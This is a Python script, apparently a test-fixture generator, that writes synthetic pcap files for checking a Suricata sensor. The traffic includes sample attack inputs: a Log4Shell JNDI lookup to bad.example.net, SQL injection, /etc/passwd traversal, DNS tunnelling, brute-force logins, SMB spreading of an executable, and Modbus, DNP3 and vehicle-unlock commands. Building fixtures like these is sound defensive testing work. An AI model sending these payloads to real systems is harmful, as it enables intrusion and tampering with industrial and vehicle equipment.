"""Writes captures for a sensor: whole TCP sessions (handshake, sequence numbers, checksums, end) and datagrams of made traffic.

suricata_captures.py FOLDER CERTIFICATE KEY writes FOLDER/*.pcap; addresses and names are those kept for documentation.
"""
import ipaddress
import pathlib
import ssl
import struct
import sys

START = 1782892800.0  # 2026-07-01 16:00 in China
PASSWORD = "made-up-word"  # of FTP and MQTT
FIN, SYN, PSH, ACK = 1, 2, 8, 16
SEGMENT = 1400


def checksum(data):
    if len(data) % 2:
        data += b"\0"
    total = sum(struct.unpack(f">{len(data) // 2}H", data))
    while total > 0xFFFF:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF


class Capture:
    """Packets of many conversations, written in the order of their times."""

    def __init__(self):
        self.packets = []
        self.port = 40000

    def add(self, time, source, target, protocol, segment, checksum_at):
        source, target = ipaddress.ip_address(source), ipaddress.ip_address(target)
        pseudo = source.packed + target.packed + struct.pack(">II", len(segment), protocol)  # the same sum for both versions
        segment = segment[:checksum_at] + struct.pack(">H", checksum(pseudo + segment) or 0xFFFF) + segment[checksum_at + 2:]
        if source.version == 6:
            head = struct.pack(">IHBB", 6 << 28, len(segment), protocol, 64) + source.packed + target.packed
        else:
            head = struct.pack(">BBHHHBBH", 0x45, 0, 20 + len(segment), len(self.packets) & 0xFFFF, 0x4000, 64, protocol, 0) + source.packed + target.packed
            head = head[:10] + struct.pack(">H", checksum(head)) + head[12:]
        self.raw(time, b"\2\0\0\0\0\2\2\0\0\0\0\1" + struct.pack(">H", 0x86DD if source.version == 6 else 0x0800) + head + segment)

    def raw(self, time, frame):
        self.packets.append((time, len(self.packets), frame))

    def udp(self, time, client, server, port, *messages):
        """Messages by turns, the client's first; a message that is None is not sent."""
        self.port += 1
        for turn, data in enumerate(messages):
            if data is not None:
                ends = (client, server, self.port, port) if turn % 2 == 0 else (server, client, port, self.port)
                self.add(time + 0.001 * turn, ends[0], ends[1], 17, struct.pack(">HHHH", ends[2], ends[3], 8 + len(data), 0) + data, 6)

    def tcp(self, time, client, server, port, talk, gap=0.001):
        """A session from SYN to FIN; talk is a list of (from the client, bytes)."""
        self.port += 1
        ends = ((client, self.port), (server, port))
        sent = [1000 + self.port, 5000 + self.port]

        def send(side, flags, data=b""):
            nonlocal time
            (source, source_port), (target, target_port) = ends[side], ends[1 - side]
            acknowledged = sent[1 - side] if flags & ACK else 0
            head = struct.pack(">HHIIBBHHH", source_port, target_port, sent[side], acknowledged, 0x50, flags, 64000, 0, 0)
            self.add(time, source, target, 6, head + data, 16)
            sent[side] += len(data) + (1 if flags & (SYN | FIN) else 0)
            time += gap

        send(0, SYN)
        send(1, SYN | ACK)
        send(0, ACK)
        for from_client, data in talk:
            side = 0 if from_client else 1
            for at in range(0, len(data), SEGMENT):
                send(side, PSH | ACK, data[at:at + SEGMENT])
                send(1 - side, ACK)
        send(0, FIN | ACK)
        send(1, FIN | ACK)
        send(0, ACK)

    def knock(self, time, client, server, port):
        """A SYN nobody answers."""
        self.port += 1
        self.add(time, client, server, 6, struct.pack(">HHIIBBHHH", self.port, port, 7, 0, 0x50, SYN, 64000, 0, 0), 16)

    def write(self, path):
        with open(path, "wb") as out:
            out.write(struct.pack("<IHHiIII", 0xA1B2C3D4, 2, 4, 0, 0, 65535, 1))
            for time, _, frame in sorted(self.packets):
                out.write(struct.pack("<IIII", *divmod(round(time * 1e6), 1000000), len(frame), len(frame)) + frame)


def http(method, host, path, status="200 OK", kind="text/html", body=b"<p>ok</p>", agent="curl/8.0", sent=b""):
    request = f"{method} {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {agent}\r\n" + (f"Content-Length: {len(sent)}\r\n" if sent else "") + "\r\n"
    answer = f"HTTP/1.1 {status}\r\nContent-Type: {kind}\r\nContent-Length: {len(body)}\r\n\r\n"
    return [(True, request.encode() + sent), (False, answer.encode() + body)]


def dns_name(name):
    return b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0"


def dns(number, name, kind, code, addresses=()):
    """The query and its answer; code 3 says there is no such name."""
    question = dns_name(name) + struct.pack(">HH", kind, 1)
    answers = b"".join(b"\xc0\x0c" + struct.pack(">HHIH", 1, 1, 60, 4) + ipaddress.ip_address(a).packed for a in addresses)
    return (struct.pack(">HHHHHH", number, 0x0100, 1, 0, 0, 0) + question,
            struct.pack(">HHHHHH", number, 0x8180 | code, 1, len(addresses), 0, 0) + question + answers)


def tls(name, certificate, key, version):
    """A real handshake and one request, both ends in this process."""
    server = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    server.load_cert_chain(certificate, key)
    client = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    client.check_hostname, client.verify_mode = False, ssl.CERT_NONE
    client.minimum_version = client.maximum_version = version
    to_server, to_client = ssl.MemoryBIO(), ssl.MemoryBIO()
    ends = [client.wrap_bio(to_client, to_server, server_hostname=name), server.wrap_bio(to_server, to_client, server_side=True)]
    talk, open_ends = [], [True, True]
    while any(open_ends):
        for side in (0, 1):
            # What an end wrote is taken down on its way to the other.
            try:
                ends[side].do_handshake()
                open_ends[side] = False
            except ssl.SSLWantReadError:
                pass
            out = (to_server, to_client)[side]
            if data := out.read():
                talk.append((side == 0, data))
                out.write(data)
    return talk


def modbus(number, unit, function, address, value):
    body = struct.pack(">BBHH", unit, function, address, value)
    message = struct.pack(">HHH", number, 0, len(body)) + body
    return [(True, message), (False, message)]  # the answer to a write is its echo


def mqtt_text(text):
    return struct.pack(">H", len(text)) + text.encode()


def mqtt(first, body):
    assert len(body) < 128
    return bytes([first, len(body)]) + body


def mqtt_connect(client, code, user=None):
    flags, login = (0xC2, mqtt_text(user) + mqtt_text(PASSWORD)) if user else (0x02, b"")
    return [(True, mqtt(0x10, mqtt_text("MQTT") + bytes([4, flags, 0, 60]) + mqtt_text(client) + login)), (False, mqtt(0x20, bytes([0, code])))]


def ssh():
    names = [b"curve25519-sha256", b"ssh-ed25519", b"aes128-ctr", b"aes128-ctr", b"hmac-sha2-256", b"hmac-sha2-256", b"none", b"none", b"", b""]
    body = b"\x14" + bytes(16) + b"".join(struct.pack(">I", len(n)) + n for n in names) + bytes(5)
    padding = 16 - (len(body) + 5) % 8
    keys = struct.pack(">IB", len(body) + padding + 1, padding) + body + bytes(padding)
    return [(False, b"SSH-2.0-OpenSSH_9.2\r\n"), (True, b"SSH-2.0-libssh2_1.10.0\r\n"), (True, keys), (False, keys)]


def dnp3_checked(data):
    """A block and its CRC-16/DNP."""
    value = 0
    for byte in data:
        value ^= byte
        for _ in range(8):
            value = value >> 1 ^ (0xA6BC if value & 1 else 0)
    return data + struct.pack("<H", value ^ 0xFFFF)


def dnp3(number, function):
    request, answer = bytes([0xC0, 0xC0 | number & 15, function]), bytes([0xC0, 0xC0 | number & 15, 0x81, 0, 0])
    return [(True, dnp3_checked(struct.pack("<BBBBHH", 5, 0x64, 5 + len(request), 0xC4, 10, 1)) + dnp3_checked(request)),
            (False, dnp3_checked(struct.pack("<BBBBHH", 5, 0x64, 5 + len(answer), 0x44, 1, 10)) + dnp3_checked(answer))]


def smb2(command, number, status, body, answer):
    head = struct.pack("<4sHHIHHIIQIIQ16s", b"\xfeSMB", 64, 1, status, command, 1, 1 if answer else 0, 0, number, 0, 1, 1, b"")
    return not answer, struct.pack(">I", len(head) + len(body)) + head + body


def smb_create(name):
    """The dialect is settled and a file is made on a share."""
    text = name.encode("utf-16-le")
    return [smb2(0, 0, 0, struct.pack("<HHHHI16sQH", 36, 1, 1, 0, 0, b"", 0, 0x0210), False),
            smb2(0, 0, 0, struct.pack("<HHHH16sIIIIQQHHI", 65, 1, 0x0210, 0, b"", 0, 65536, 65536, 65536, 0, 0, 128, 0, 0), True),
            smb2(5, 1, 0, struct.pack("<HBBIQQIIIIIHHII", 57, 0, 0, 2, 0, 0, 0x12019F, 0, 0, 5, 0x40, 120, len(text), 0, 0) + text, False),
            smb2(5, 1, 0, struct.pack("<HBBIQQQQQQII16sII", 89, 0, 0, 2, 0, 0, 0, 0, 0, 0, 0x20, 0, b"\1" * 16, 0, 0), True)]


def lines(*texts):
    """Lines by turns, the server's first."""
    return [(i % 2 == 1, text.replace("\n", "\r\n").encode() + b"\r\n") for i, text in enumerate(texts)]


def office():
    """HTTP, names, mail and files: what an office network shows."""
    c = Capture()
    c.tcp(START, "192.0.2.10", "198.51.100.20", 80, http("GET", "bad.example.net", "/gate.php?id=7", body=b"MZ" + b"\x90" * 4000, kind="application/octet-stream"))
    c.tcp(START + 1, "192.0.2.10", "198.51.100.21", 80, http("GET", "www.example.com", "/cgi-bin/longpan-rule"))
    c.tcp(START + 2, "2001:db8::10", "2001:db8:1::20", 80, http("GET", "bad.example.net", "/v6"))
    c.tcp(START + 3, "198.51.100.30", "192.0.2.80", 80, http("GET", "app.example.org", "/backup/app.sql.gz", body=b"\x1f\x8b" + bytes(3000), kind="application/gzip"))
    c.tcp(START + 4, "198.51.100.30", "192.0.2.80", 80, http("POST", "app.example.org", "/upload?name=%E6%96%87%E4%BB%B6", sent="标题=测试".encode("gb18030"), agent="Mozilla/5.0 \xe9"))
    c.tcp(START + 4.1, "198.51.100.31", "192.0.2.80", 80, http("GET", "app.example.org", "/list?id=1%20union%20select%20name"))
    c.tcp(START + 4.2, "198.51.100.32", "192.0.2.80", 80, http("GET", "app.example.org", "/files/../../../../etc/passwd"))
    c.tcp(START + 4.3, "198.51.100.33", "192.0.2.80", 80, http("GET", "app.example.org", "/", agent="${jndi:ldap://bad.example.net/a}"))
    for i in range(5):
        c.udp(START + 5 + i, "192.0.2.10", "192.0.2.53", 53, *dns(i, "www.example.com", 1, 0, ["198.51.100.21", "198.51.100.22"]))
    for i in range(150):
        label = f"{i * 0x9E3779B97F4A7C15 % 2 ** 64:016x}{i * 0xC2B2AE3D27D4EB4F % 2 ** 64:016x}"
        c.udp(START + 20 + i, "192.0.2.11", "192.0.2.53", 53, *dns(1000 + i, f"{label}.t.example.net", 16, 3))
    c.tcp(START + 200, "198.51.100.40", "192.0.2.25", 25, lines(
        "220 mail.example.org ESMTP", "EHLO a.example.com", "250 mail.example.org", "MAIL FROM:<a@example.com>", "250 ok", "RCPT TO:<b@example.org>", "250 ok", "DATA", "354 go on",
        "From: a@example.com\nTo: b@example.org\nSubject: =?UTF-8?B?5rWL6K+V?=\nMIME-Version: 1.0\nContent-Type: multipart/mixed; boundary=x\n\n--x\nContent-Type: text/plain\n\n"
        "see http://bad.example.net/\n--x\nContent-Type: application/octet-stream; name=a.exe\nContent-Disposition: attachment; filename=a.exe\nContent-Transfer-Encoding: base64\n\nTVqQAAMAAAA=\n--x--\n.",
        "250 ok", "QUIT", "221 bye"))
    c.tcp(START + 201, "198.51.100.41", "192.0.2.21", 21, lines("220 ftp.example.org", "USER example", "331 password", f"PASS {PASSWORD}", "530 no", "QUIT", "221 bye"))
    options = "OPTIONS sip:example.org SIP/2.0\r\nVia: SIP/2.0/UDP 192.0.2.10\r\nFrom: <sip:a@example.org>;tag=1\r\nTo: <sip:b@example.org>\r\nCall-ID: 1@example.org\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n"
    c.udp(START + 202, "192.0.2.10", "192.0.2.60", 5060, options.encode(), b"SIP/2.0 200 OK\r\nCSeq: 1 OPTIONS\r\nContent-Length: 0\r\n\r\n")
    c.udp(START + 203, "192.0.2.10", "192.0.2.69", 69, b"\0\1startup.cfg\0octet\0")
    c.udp(START + 204, "192.0.2.10", "192.0.2.61", 161, bytes.fromhex("302602010004067075626c6963a019020101020100020100300e300c06082b060102010101000500"))
    c.raw(START + 205, b"\2\0\0\0\0\2\2\0\0\0\0\1\x08\0\x45\0\0\x14")  # cut off within its head
    return c


def remote(certificate, key):
    """TLS of two versions, a series of SSH sessions, programs copied from host to host, a search for open doors."""
    c = Capture()
    c.tcp(START + 300, "192.0.2.12", "198.51.100.50", 8443, tls("c2.example.net", certificate, key, ssl.TLSVersion.TLSv1_2))
    c.tcp(START + 301, "192.0.2.12", "198.51.100.51", 443, tls("www.example.com", certificate, key, ssl.TLSVersion.TLSv1_3))
    for i in range(40):
        c.tcp(START + 310 + i, "198.51.100.60", "192.0.2.22", 22, ssh())
    for i in range(12):
        c.tcp(START + 360 + i, "192.0.2.13", f"192.0.2.{30 + i}", 445, smb_create("Windows\\a.exe"))
    for i in range(60):
        c.knock(START + 380 + i / 10, "192.0.2.14", f"198.51.100.{100 + i}", 23)
    return c


def plant():
    """Modbus, DNP3 and MQTT: what a plant and a vehicle platform show."""
    c = Capture()
    c.tcp(START + 400, "198.51.100.70", "192.0.2.102", 502, [part for i in range(60) for part in modbus(i, 1, 6, 100 + i, 1)], gap=0.1)
    c.tcp(START + 410, "192.0.2.71", "192.0.2.102", 502, modbus(1, 1, 8, 4, 0))
    c.tcp(START + 420, "192.0.2.71", "192.0.2.103", 20000, dnp3(1, 13) + dnp3(2, 21))
    c.tcp(START + 430, "198.51.100.80", "192.0.2.104", 1883, mqtt_connect("tool-1", 0) + [
        (True, mqtt(0x82, b"\0\1" + mqtt_text("#") + b"\0")), (False, mqtt(0x90, b"\0\1\0")),
        (True, mqtt(0x30, mqtt_text("tbox/EXAMPLE1/cmd") + b'{"do":"unlock"}')), (True, mqtt(0xE0, b""))])
    for i in range(60):
        c.tcp(START + 440 + i, "198.51.100.81", "192.0.2.104", 1883, mqtt_connect(f"guess-{i}", 5, "admin"))
    return c


def main():
    folder, certificate, key = pathlib.Path(sys.argv[1]), sys.argv[2], sys.argv[3]
    office().write(folder / "office.pcap")
    remote(certificate, key).write(folder / "remote.pcap")
    plant().write(folder / "plant.pcap")


if __name__ == "__main__":
    main()
